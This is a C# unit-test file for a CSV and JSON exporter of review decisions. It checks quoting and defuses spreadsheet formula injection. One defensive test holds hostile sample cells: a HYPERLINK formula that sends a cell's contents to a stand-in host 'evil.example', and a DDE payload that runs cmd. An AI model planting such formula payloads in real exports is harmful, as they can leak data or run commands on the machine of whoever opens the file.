using System.Text.Json;
using SquadAlbert.Analysis.Review;
using SquadAlbert.Analysis.Storage;

namespace SquadAlbert.Analysis.Tests.Review;

public sealed class DecisionExportTests
{
    private static readonly ReviewDecision[] Decisions =
    [
        new(4, 0, "q-0", ReviewVerdict.Correct, null, null, StoredTime.Parse("2026-11-27T19:00:00.000Z", "test")),
        new(4, 1, "q-1", ReviewVerdict.Wrong, "says \"Rollo\", not Richard, twice", null, StoredTime.Parse("2026-11-27T19:00:01.000Z", "test")),
        new(4, 2, "q-2", ReviewVerdict.Fixed, "line one\nline two", new FixedSpan("Paris, France", 47), StoredTime.Parse("2026-11-27T19:00:02.000Z", "test")),
        new(4, 3, "q-3", ReviewVerdict.Ambiguous, " padded ", null, StoredTime.Parse("2026-11-27T19:00:03.000Z", "test")),
    ];

    [Fact]
    public void Csv_quotes_commas_quotes_line_breaks_and_edge_spaces()
    {
        var csv = DecisionExport.ToCsv(Decisions);

        Assert.Equal(
            "run_id,sample_index,example_id,decision,note,fixed_text,fixed_start,decided_at\r\n" +
            "4,0,q-0,correct,,,,2026-11-27T19:00:00.000Z\r\n" +
            "4,1,q-1,wrong,\"says \"\"Rollo\"\", not Richard, twice\",,,2026-11-27T19:00:01.000Z\r\n" +
            "4,2,q-2,fixed,\"line one\nline two\",\"Paris, France\",47,2026-11-27T19:00:02.000Z\r\n" +
            "4,3,q-3,ambiguous,\" padded \",,,2026-11-27T19:00:03.000Z\r\n",
            csv);
    }

    [Fact]
    public void Csv_neutralises_text_cells_a_spreadsheet_would_run_as_formulas_and_keeps_numbers()
    {
        ReviewDecision[] decisions =
        [
            new(4, 0, "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", ReviewVerdict.Wrong, "+1", null, StoredTime.Parse("2026-11-27T19:00:00.000Z", "test")),
            new(4, 1, "@SUM(A1)", ReviewVerdict.Fixed, "-2 is right", new FixedSpan("\tcmd|' /C calc'!A0", 0), StoredTime.Parse("2026-11-27T19:00:01.000Z", "test")),
            new(4, 2, "q-2", ReviewVerdict.Fixed, "\rnote", new FixedSpan("-5", 12), StoredTime.Parse("2026-11-27T19:00:02.000Z", "test")),
        ];

        var csv = DecisionExport.ToCsv(decisions);

        Assert.Equal(
            "run_id,sample_index,example_id,decision,note,fixed_text,fixed_start,decided_at\r\n" +
            "4,0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",wrong,'+1,,,2026-11-27T19:00:00.000Z\r\n" +
            "4,1,'@SUM(A1),fixed,'-2 is right,'\tcmd|' /C calc'!A0,0,2026-11-27T19:00:01.000Z\r\n" +
            "4,2,q-2,fixed,\"'\rnote\",'-5,12,2026-11-27T19:00:02.000Z\r\n",
            csv);
    }

    [Fact]
    public void Json_keeps_formula_like_text_exactly()
    {
        using var json = JsonDocument.Parse(DecisionExport.ToJson([new(4, 0, "=1+1", ReviewVerdict.Wrong, "+1", null, StoredTime.Parse("2026-11-27T19:00:00.000Z", "test"))]));

        Assert.Equal("=1+1", json.RootElement[0].GetProperty("example_id").GetString());
        Assert.Equal("+1", json.RootElement[0].GetProperty("note").GetString());
    }

    [Fact]
    public void Json_holds_one_object_per_decision_with_the_table_columns()
    {
        using var json = JsonDocument.Parse(DecisionExport.ToJson(Decisions));
        var rows = json.RootElement.EnumerateArray().ToList();

        Assert.Equal(4, rows.Count);
        Assert.Equal("fixed", rows[2].GetProperty("decision").GetString());
        Assert.Equal("Paris, France", rows[2].GetProperty("fixed_text").GetString());
        Assert.Equal(47, rows[2].GetProperty("fixed_start").GetInt32());
        Assert.Equal(JsonValueKind.Null, rows[0].GetProperty("note").ValueKind);
        Assert.Equal("says \"Rollo\", not Richard, twice", rows[1].GetProperty("note").GetString());
    }
}
